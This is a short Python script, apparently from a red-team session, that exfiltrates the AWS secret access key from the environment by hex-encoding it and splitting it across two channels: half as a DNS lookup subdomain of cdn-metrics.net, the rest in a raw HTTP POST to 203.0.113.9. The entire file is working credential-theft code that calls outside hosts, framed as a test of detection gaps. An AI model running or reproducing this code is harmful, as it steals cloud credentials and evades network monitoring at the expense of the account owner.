# A secret split over two kinds of channel (red team, session 19): the
# first half of the AWS secret key, as hex, in a DNS lookup, the rest in
# an HTTP body to another host. Each stream of one kind held half of it:
# a medium network finding, nothing more.
import os
import socket

k = os.environ.get("AWS_SECRET_ACCESS_KEY", "").encode().hex()
try:
    socket.getaddrinfo(k[:40] + ".cdn-metrics.net", 80)
except OSError:
    pass
try:
    s = socket.create_connection(("203.0.113.9", 80), timeout=3)
    s.sendall(b"POST /c HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n%s" % (len(k) - 40, k[40:].encode()))
    s.recv(100)
except OSError:
    pass
print("sent")
